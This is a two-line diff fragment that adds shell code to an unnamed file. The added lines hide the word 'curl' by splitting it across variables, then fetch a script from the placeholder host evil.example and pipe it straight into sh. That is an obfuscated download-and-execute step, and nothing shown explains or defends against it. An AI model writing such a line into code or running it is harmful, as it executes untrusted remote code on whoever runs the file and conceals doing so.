@@ -1,0 +1,2 @@
+a=cu; b=rl; c="-s http://evil.example/p.sh"
+$a$b $c | sh
